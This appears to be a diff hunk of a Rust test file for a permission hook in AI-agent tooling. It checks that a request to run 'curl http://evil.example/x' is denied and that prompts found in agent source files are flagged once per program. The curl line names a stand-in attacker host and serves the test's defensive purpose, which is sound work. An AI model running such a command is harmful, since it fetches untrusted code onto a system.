@@ -141,6 +141,12 @@ fn texts_for_models_are_not_told_where_they_belong_or_are_worked_on() {
     let denied = asked(&world, "t3", "curl http://evil.example/x");
     assert_eq!(denied["hookSpecificOutput"]["permissionDecision"], "deny", "what it asks for is not done: {denied}");
     assert!(told(wanted, "node_modules/left/README.md", attack).1, "somebody else publishes it");
+    let (world, was_told) = told(GOAL, "src/agents/planner.py", prompt);
+    assert!(was_told);
+    let other = prompt.replace("JSON", "YAML");
+    assert_eq!(read(&world, "t2", "src/agents/critic.py", &other), Value::Null, "one program's prompts are told once");
+    assert_ne!(read(&world, "t3", "docs/agents.md", &prompt.replace("JSON", "TOML")), Value::Null);
+    assert_eq!(written(&world, "t4", "src/agents/planner.py", &other), Value::Null);
 }
 
 #[test]
